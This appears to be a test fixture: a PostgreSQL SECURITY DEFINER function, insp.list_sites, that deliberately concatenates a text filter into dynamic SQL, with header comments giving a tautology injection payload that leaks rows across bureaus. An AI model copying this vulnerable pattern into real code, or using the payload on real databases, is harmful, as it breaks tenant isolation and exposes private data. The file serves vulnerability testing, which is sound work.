-- The list takes its filter as text and puts it into a statement that runs with the owner's rights.
-- about: list_sites, sites
-- as: hf_inspections_app
-- exploit: SET insp.bureau = 'a0000000-0000-4000-8000-000000000001';
-- exploit: SELECT * FROM insp.list_sites('x'' OR ''1'' = ''1');
-- shows: Hidden-secret
CREATE FUNCTION insp.list_sites(p_address text) RETURNS SETOF text
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = insp, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT address FROM insp.sites WHERE bureau_id = '
    || quote_nullable(nullif(current_setting('insp.bureau', true),
      '')) || ' AND address = ''' || p_address || '''';
END $$;
REVOKE ALL ON FUNCTION insp.list_sites(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION insp.list_sites(text) TO hf_inspections_app;
